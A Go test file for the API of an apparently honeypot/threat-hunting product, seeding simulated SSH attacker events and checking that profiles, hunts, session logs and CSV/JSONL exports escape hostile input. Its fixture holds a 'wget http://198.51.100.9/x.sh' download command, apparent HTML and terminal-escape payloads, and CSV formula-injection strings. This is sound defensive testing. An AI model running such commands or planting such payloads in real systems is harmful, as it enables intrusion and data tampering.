package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/auth"
	"honeyguide/internal/client"
	"honeyguide/internal/config"
	"honeyguide/internal/hunt"
	"honeyguide/internal/state"
)

// attacker fills a rig with what one attacker did, and another who looks like it.
func (r *rig) attacker() {
	r.t.Helper()
	src := func(n int) honeyguide.Endpoint {
		return honeyguide.Endpoint{Addr: netip.AddrPortFrom(netip.AddrFrom4([4]byte{203, 0, 113, byte(n)}), 4000), Country: "NL"}
	}
	var events []honeyguide.Event
	add := func(who int, activity string, attrs map[string]any) {
		n := len(events)
		events = append(events, honeyguide.Event{
			ID: fmt.Sprint("x", n), Time: day.Add(time.Duration(n) * time.Minute), Observed: day, Class: honeyguide.ClassSSH, Activity: activity, Severity: honeyguide.SeverityMedium,
			Sensor: "ssh", Service: "ssh", Session: fmt.Sprint("sess", who), Src: src(who), Attrs: attrs,
		})
	}
	for _, who := range []int{7, 8} {
		add(who, honeyguide.ActivityClient, map[string]any{honeyguide.AttrClient: "SSH-2.0-Go" + nasty, honeyguide.AttrHASSH: "aaaa1111"})
		for range 3 {
			add(who, honeyguide.ActivityLoginFailed, map[string]any{honeyguide.AttrUser: "root", honeyguide.AttrPassword: nasty})
		}
		add(who, honeyguide.ActivityLoginSuccess, map[string]any{honeyguide.AttrUser: "admin", honeyguide.AttrPassword: "admin"})
		add(who, honeyguide.ActivityCommand, map[string]any{honeyguide.AttrCommand: "wget http://198.51.100.9/x.sh; " + nasty, honeyguide.AttrStatus: int64(0)})
		add(who, honeyguide.ActivitySample, map[string]any{honeyguide.AttrSHA256: strings.Repeat("ab", 32), honeyguide.AttrPath: "/tmp/" + nasty, honeyguide.AttrSize: int64(9)})
	}
	add(9, honeyguide.ActivityCommand, map[string]any{honeyguide.AttrCommand: "uname -a"})
	if _, err := r.take(r.t.Context(), events); err != nil {
		r.t.Fatal(err)
	}
	r.update(func(ctx context.Context, tx state.Tx) error {
		for n, rule := range []string{"brute_force", "loader"} {
			a := alert(n)
			a.RuleID, a.Title, a.Src, a.Attacker, a.Session = rule, nasty, src(7), "attacker:203.0.113.7", "sess7"
			a.Attacks, a.EventIDs = []honeyguide.Technique{{ID: []string{"T1110.001", "T1105"}[n]}}, []string{fmt.Sprint("x", 1+4*n)}
			if _, err := tx.Alerts().Save(ctx, a); err != nil {
				return err
			}
		}
		s := honeyguide.Session{ID: "sess7", Sensor: "ssh", Service: "ssh", Src: src(7), StartedAt: day, LastAt: day, User: "admin", Client: nasty}
		if err := tx.Sessions().Save(ctx, &s); err != nil {
			return err
		}
		in := honeyguide.Incident{Key: "attacker:203.0.113.7", Title: nasty, Severity: honeyguide.SeverityHigh, Attackers: []string{"attacker:203.0.113.7"}, CreatedAt: day}
		_, err := tx.Incidents().Save(ctx, &in)
		return err
	})
}

func TestProfile(t *testing.T) {
	r := newRig(t, clocked(day.Add(time.Hour)))
	r.attacker()
	p := get[Profile](r, "/api/v1/attackers/203.0.113.7/profile")
	if p.Address != "203.0.113.7" || p.Events != 7 || p.Cut || len(p.Activity) != 1 || p.Activity[0].Events != 7 || p.SessionCount != 1 {
		t.Errorf("%+v", p)
	}
	if len(p.Credentials) != 2 || p.Credentials[0].Password != nasty || p.Credentials[0].N != 3 || p.Credentials[0].Worked || !p.Credentials[1].Worked {
		t.Errorf("credentials %+v", p.Credentials)
	}
	if len(p.Commands) != 1 || len(p.Tools) != 1 || p.Tools[0].Text != "wget" || len(p.Files) != 1 || p.Files[0].Size != 9 || len(p.Clients) != 2 || p.Clients[1].Kind != "hassh" {
		t.Errorf("commands %+v tools %+v files %+v clients %+v", p.Commands, p.Tools, p.Files, p.Clients)
	}
	if len(p.Path) != 2 || p.Path[0].Name != "Credential Access" || p.Path[1].Name != "Command and Control" || len(p.Rules) != 2 {
		t.Errorf("path %+v rules %+v", p.Path, p.Rules)
	}
	if len(p.Same) != 1 || p.Same[0].Address != "203.0.113.8" || p.Same[0].Score < 50 || len(p.Same[0].Reasons) != 4 {
		t.Errorf("looks the same: %+v", p.Same)
	}
	doc, _ := json.Marshal(NoteOrder{Text: nasty})
	if w := r.ask(http.MethodPost, "/api/v1/attackers/203.0.113.7/notes", r.key("eve", auth.ScopeAnalyst), string(doc)); w.Code != http.StatusOK {
		t.Errorf("note: %d %s", w.Code, w.Body)
	}
	if w := r.ask(http.MethodPost, "/api/v1/attackers/203.0.113.99/notes", bootstrap, string(doc)); w.Code != http.StatusNotFound {
		t.Errorf("note about nobody: %d", w.Code)
	}
	if n := get[client.Page[state.Note]](r, "/api/v1/attackers/203.0.113.7/notes"); len(n.Items) != 1 || n.Items[0].Text != nasty || n.Items[0].By != "eve" {
		t.Errorf("notes %+v", n)
	}
	if w := r.call(http.MethodGet, "/api/v1/attackers/203.0.113.99/profile", bootstrap, nil); w.Code != http.StatusNotFound {
		t.Errorf("profile of nobody: %d", w.Code)
	}
}

func TestStory(t *testing.T) {
	r := newRig(t)
	r.attacker()
	s := get[Story](r, "/api/v1/sessions/sess7/commands")
	if len(s.Steps) != 6 || s.Steps[0].Activity != honeyguide.ActivityLoginFailed || s.Steps[0].Detail != nasty || s.Steps[0].OffsetMS != 60_000 || len(s.Steps[0].Alerts) != 1 || s.Steps[0].Alerts[0] != "A-1" || s.Steps[4].Status != "0" || len(s.Alerts) != 2 {
		t.Errorf("%+v", s)
	}
	if all := get[Story](r, "/api/v1/sessions/sess7/commands?all=true"); len(all.Steps) != 7 {
		t.Errorf("%d steps", len(all.Steps))
	}
	w := r.call(http.MethodGet, "/api/v1/sessions/sess7/log", bootstrap, nil)
	if text := w.Body.String(); w.Code != http.StatusOK || strings.ContainsAny(text, "\x1b\a\u202e") || !strings.Contains(text, `\x1b]0;pwn`) || !strings.Contains(w.Header().Get("Content-Disposition"), "attachment") || strings.Count(text, "\n") != 9 {
		t.Errorf("%d %s: %s", w.Code, w.Header(), text)
	}
	if w := r.call(http.MethodGet, "/api/v1/sessions/none/log", bootstrap, nil); w.Code != http.StatusNotFound {
		t.Errorf("%d", w.Code)
	}
}

func TestHunt(t *testing.T) {
	r := newRig(t, clocked(day.Add(time.Hour)))
	r.attacker()
	count := func(q string) int {
		t.Helper()
		return len(get[client.Page[client.Event]](r, "/api/v1/events?query="+url.QueryEscape(q)).Items)
	}
	for q, want := range map[string]int{
		"": 15, "src:203.0.113.8": 7, "src:203.0.113.0/24 activity:login": 8, "cmd:wget": 2, "-cmd:wget activity:command": 1, `password:"` + strings.ReplaceAll(nasty, `"`, `\"`) + `"`: 6,
		"user:ro*": 6, "-src:203.0.113.8 since:2h": 8, "since:20m": 0, "hash:abab*": 2, "path:*onerror*": 2, "severity:high": 0, "-severity:high": 15, "absent": 0, "198.51.100.9": 2, "token:*": 0, "user:* -user:root": 2,
	} {
		if got := count(q); got != want {
			t.Errorf("%s: %d events, want %d", q, got, want)
		}
	}
	page := get[client.Page[client.Event]](r, "/api/v1/events?limit=3&query=activity:login&service=ssh")
	if len(page.Items) != 3 || page.Next == "" {
		t.Errorf("%d events, next %q", len(page.Items), page.Next)
	}
	for _, q := range []string{"nofield:" + nasty, `cmd:"` + nasty, "src:<script>", "since:" + nasty} {
		w := r.call(http.MethodGet, "/api/v1/events?query="+url.QueryEscape(q), bootstrap, nil)
		if w.Code != http.StatusBadRequest || !strings.Contains(w.Body.String(), "at character") || strings.Contains(w.Body.String(), "script") || strings.Contains(w.Body.String(), "onerror") {
			t.Errorf("%s: %d %s", q, w.Code, w.Body)
		}
	}
	if w := r.call(http.MethodGet, "/api/v1/events?query=sensor:a&sensor=b", bootstrap, nil); w.Code != http.StatusBadRequest {
		t.Errorf("two sensors: %d", w.Code)
	}
	h := get[Histogram](r, "/api/v1/events/histogram?query=cmd:wget&step=60")
	if h.Total != 2 || len(h.Points) != 2 || h.Points[0].By["medium"] != 1 || h.StepS != 60 {
		t.Errorf("%+v", h)
	}
	if h := get[Histogram](r, "/api/v1/events/histogram"); h.Total != 15 || h.StepS != 900 {
		t.Errorf("%+v", h)
	}
	top := get[client.Page[TopValue]](r, "/api/v1/events/top?field=user&query=activity:login")
	if len(top.Items) != 2 || top.Items[0] != (TopValue{"root", 6}) {
		t.Errorf("%+v", top)
	}
	if f := get[client.Page[hunt.Field]](r, "/api/v1/events/fields"); len(f.Items) < 30 {
		t.Errorf("%d fields", len(f.Items))
	}
}

func TestSearch(t *testing.T) {
	r := newRig(t)
	r.attacker()
	kinds := func(q string) string {
		t.Helper()
		f := get[Found](r, "/api/v1/search?q="+url.QueryEscape(q))
		var out []string
		for _, g := range f.Groups {
			out = append(out, fmt.Sprintf("%s:%d", g.Kind, len(g.Hits)))
		}
		return strings.Join(out, " ")
	}
	for q, want := range map[string]string{
		"a-1": "alert:1", "I-1": "incident:1", "R-7": "", "HT-1": "", "203.0.113.7": "attacker:1 alert:2 session:1 incident:1", "::ffff:203.0.113.7": "attacker:1 alert:2 session:1 incident:1",
		"admin": "session:1", "loader": "alert:1", "onerror": "alert:2 incident:1 session:1", "203.0.113.0/24": "", nasty: "alert:2 incident:1 session:1", "zzzz": "", "-": "", strings.Repeat("a ", 30): "",
	} {
		if got := kinds(q); got != want {
			t.Errorf("%q: %s, want %s", q, got, want)
		}
	}
	if w := r.call(http.MethodGet, "/api/v1/search?q=+", bootstrap, nil); w.Code != http.StatusBadRequest {
		t.Errorf("blanks: %d", w.Code)
	}
}

func TestMatrix(t *testing.T) {
	r := newRig(t, clocked(day.Add(time.Hour)))
	r.attacker()
	r.update(func(ctx context.Context, tx state.Tx) error {
		a := alert(50)
		a.Attacks = []honeyguide.Technique{{ID: nasty}, {ID: "T9999"}}
		_, err := tx.Alerts().Save(ctx, a)
		return err
	})
	m := get[Matrix](r, "/api/v1/attack/matrix?span=24h")
	cells := map[string]MatrixTechnique{}
	for _, tactic := range m.Tactics {
		for _, x := range tactic.Techniques {
			cells[x.ID] = x
		}
	}
	if len(m.Tactics) != 15 || cells["T1110.001"].Alerts != 1 || cells["T1110.001"].Parent != "T1110" || cells["T1110.001"].Title != "Brute Force: Password Guessing" || cells["T9999"].Alerts != 1 || cells["T1059"].Alerts != 0 || m.Most != 1 {
		t.Errorf("%d tactics, %+v", len(m.Tactics), cells["T1110.001"])
	}
	w := r.call(http.MethodGet, "/api/v1/attack/matrix?format=navigator", bootstrap, nil)
	var l layer
	if err := json.Unmarshal(w.Body.Bytes(), &l); err != nil || l.Domain != "enterprise-attack" || l.Versions.Layer != "4.5" || len(l.Techniques) != 2 || l.Techniques[0].Tactic != "credential-access" || !strings.Contains(w.Header().Get("Content-Disposition"), "attachment") {
		t.Errorf("%v %+v", err, l)
	}
	if strings.Contains(w.Body.String(), "onerror") {
		t.Error("the layer repeats an attacker's text")
	}
}

// Downloads are whole, and no cell of a CSV is a formula or steers a terminal.
func TestExports(t *testing.T) {
	t.Parallel()
	r := newRig(t)
	r.attacker()
	r.update(func(ctx context.Context, tx state.Tx) error {
		for n := range 1200 {
			a := alert(n)
			a.DedupeKey, a.Title, a.RuleID = fmt.Sprint("many", n), []string{"=1+1", "\t@x", nasty, "＝1", "-2", "a\r\nb"}[n%6], "+cmd"
			if _, err := tx.Alerts().Save(ctx, a); err != nil {
				return err
			}
		}
		return nil
	})
	for path, want := range map[string]int{"/alerts": 1202, "/incidents": 1, "/sessions": 1, "/attackers": 1, "/events": 15, "/blocks": 0, "/alerts?most=1001": 1001, "/alerts?rule=loader": 1, "/events?query=cmd:wget": 2} {
		path, q, _ := strings.Cut(path, "?")
		w := r.call(http.MethodGet, "/api/v1"+path+"/export?"+q, bootstrap, nil)
		if w.Code != http.StatusOK || !strings.HasPrefix(w.Header().Get("Content-Disposition"), `attachment; filename="honeyguide-`+path[1:]+`-`) || w.Header().Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %d %s", path, w.Code, w.Header())
		}
		all, err := csv.NewReader(bytes.NewReader(w.Body.Bytes())).ReadAll()
		if err != nil || len(all) != want+1 {
			t.Errorf("%s?%s: %d rows, want %d: %v", path, q, len(all)-1, want, err)
			continue
		}
		for _, row := range all {
			for _, cell := range row {
				trimmed := strings.TrimSpace(cell)
				if trimmed != "" && strings.ContainsRune("=+-@|%＝＋－＠", []rune(trimmed)[0]) || strings.ContainsAny(cell, "\x1b\a\u202e\r\n\t") {
					t.Errorf("%s: cell %q", path, cell)
				}
			}
		}
		lines := r.call(http.MethodGet, "/api/v1"+path+"/export?format=jsonl&"+q, bootstrap, nil).Body.String()
		if n := strings.Count(lines, "\n"); n != want || strings.ContainsAny(lines, "\u202e\x1b") {
			t.Errorf("%s: %d lines of JSON", path, n)
		}
	}
	for _, bad := range []string{"/alerts/export?format=xlsx", "/alerts/export?incident=I-99", "/events/export?query=src:x", "/alerts/export?most=0"} {
		if w := r.call(http.MethodGet, "/api/v1"+bad, bootstrap, nil); w.Code < 400 || strings.Contains(w.Header().Get("Content-Disposition"), "attachment") {
			t.Errorf("%s: %d", bad, w.Code)
		}
	}
}

func TestSuggestions(t *testing.T) {
	r := newRig(t)
	r.attacker()
	p := get[client.Page[Suggestion]](r, "/api/v1/alerts/A-1/playbooks")
	if len(p.Items) == 0 {
		t.Fatal("nothing is suggested")
	}
	for _, x := range p.Items {
		if x.Why == "" || x.Steps == nil || x.Ran == nil || x.Title == "" {
			t.Errorf("%+v", x)
		}
	}
	if w := r.call(http.MethodGet, "/api/v1/alerts/A-99/playbooks", bootstrap, nil); w.Code != http.StatusNotFound {
		t.Errorf("%d", w.Code)
	}
}

// Everybody sees what this node is; its keys are for those who set it up, and no
// secret is among them.
func TestSettings(t *testing.T) {
	r := newRig(t, func(d *Deps) {
		d.Node = "edge-1"
		d.Setup = func(context.Context) Setup {
			return Setup{
				RetentionDays: 90, Sizes: []DataSize{{Class: "state", Bytes: 5}}, Actions: []Integration{{Name: "slack", Part: "action"}},
				TLS: TLSFacts{Kind: "files", Fingerprint: "ab", Problem: "the new file cannot be read"}, Witnesses: []string{"file"},
				Values: []config.Value{{Path: "api.listen", Value: "x"}, {Path: "api.url", Value: "y"}, {Path: "store.linger", Value: nasty}},
			}
		}
	})
	a := get[NodeAbout](r, "/api/v1/settings")
	if a.Node != "edge-1" || a.RetentionDays != 90 || len(a.Sizes) != 1 || len(a.Integrations) < 2 || len(a.Credits) == 0 {
		t.Errorf("%+v", a)
	}
	if a.TLS.Kind != "files" || a.TLS.Problem == "" || a.Audit == nil || a.Audit.Refused != "" || !slices.Equal(a.Audit.Witnesses, []string{"file"}) || len(a.Login.Providers) != 0 || a.TLS.Names == nil {
		t.Errorf("%+v %+v %+v", a.TLS, a.Audit, a.Login)
	}
	if err := r.dep.Trail.Record(t.Context(), honeyguide.AuditEntry{Time: day, Actor: "eve", Kind: "user", Action: "halt", Outcome: honeyguide.AuditAsked}); err != nil {
		t.Fatal(err)
	}
	if b := get[NodeAbout](r, "/api/v1/settings"); b.Audit.Entries != a.Audit.Entries+1 {
		t.Errorf("%+v, before %+v", b.Audit, a.Audit)
	}
	v := get[client.Page[SettingRoom]](r, "/api/v1/settings/values")
	if len(v.Items) != 2 || len(v.Items[0].Keys) != 2 || v.Items[1].Keys[0].Value.Value != nasty {
		t.Errorf("%+v", v)
	}
	if w := r.call(http.MethodGet, "/api/v1/settings/values", r.key("eve", auth.ScopeAnalyst), nil); w.Code != http.StatusForbidden {
		t.Errorf("an analyst sees the keys: %d", w.Code)
	}
	r.update(func(ctx context.Context, tx state.Tx) error {
		for n := range 4 {
			if err := tx.Tokens().Save(ctx, &honeyguide.Honeytoken{ID: fmt.Sprint("t", n), Kind: "aws_key", Persona: "web"}); err != nil {
				return err
			}
		}
		return tx.Tokens().Expose(ctx, honeyguide.Exposure{Token: "t1", EventID: "e", Time: day})
	})
	p := get[TokenReport](r, "/api/v1/tokens/report")
	if p.Tokens != 4 || p.Exposed != 1 || *p.Coverage.Value != .25 || *p.Coverage.Low >= .25 || p.Returned.N != 1 || *p.Returned.Value != 0 || p.ByKind["aws_key"] != 4 {
		t.Errorf("%+v", p)
	}
}
